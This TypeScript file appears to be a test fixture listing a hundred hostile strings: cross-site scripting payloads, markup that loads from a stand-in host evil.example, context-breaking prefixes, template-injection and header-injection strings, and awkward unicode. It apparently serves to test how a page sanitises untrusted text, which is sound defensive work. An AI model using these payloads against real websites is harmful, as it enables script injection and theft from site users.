/** A hundred texts that a hostile page could say: each would run `pwned`, fetch from elsewhere or break the page. */

const RUN = 'pwned()'
const AWAY = 'https://evil.example/x'

const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${AWAY}"></object>`,
  `<embed src="${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}">`,
  `<link rel=preload as=image href="${AWAY}">`,
  `<style>@import "${AWAY}";</style>`,
  `<style>body{display:none}</style>`,
  `<base href="${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><button autofocus onfocus=${RUN}>`,
  `<video src="${AWAY}" autoplay onerror=${RUN}></video>`,
  `<audio src="${AWAY}" autoplay onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x`,
  `<body onload=${RUN}>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<table background="${AWAY}"><td>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
]
const BREAKERS = [
  '">',
  "'>",
  '</p></div></section></main>',
  '</title>',
  '</textarea>',
  '</select>',
  '</summary></details>',
  '-->',
  '%>',
  '`}',
]
const TEMPLATES = [
  `<%= ${RUN} %>`,
  `<%~ it %>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
]
const ADDRESSES = [
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `//evil.example/x`,
  `\tjavascript:${RUN}`,
  `vbscript:${RUN}`,
]
const TEXTS = [
  'x'.repeat(3000),
  'W '.repeat(1500),
  '\u202eeverything turned round\u202d',
  '\u2066\u2067\u2068unclosed isolates',
  `Z${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(40)}algo`,
  '\ufdfd'.repeat(50),
  '𒐫'.repeat(50),
  '\u0000\u0001\u0007\u001b[31mred\u001b[0m',
  '\ud800 half a pair',
  '\r\n\r\nSet-Cookie: a=b',
  '\u2028\u2029',
  '&lt;script&gt;&#x3c;script>&amp;amp;',
  '‮‭‮‭',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  '-1',
  ' ',
  '🏳️‍🌈'.repeat(100),
]

/** Markup as it is and behind what could end the place it stands in. */
export const HOSTILE: readonly string[] = [
  ...MARKUP,
  ...BREAKERS.flatMap((breaker, index) =>
    [0, 7, 13, 19].map(step => breaker + MARKUP[(index + step) % MARKUP.length]!),
  ),
  ...TEMPLATES,
  ...ADDRESSES,
  ...TEXTS,
]
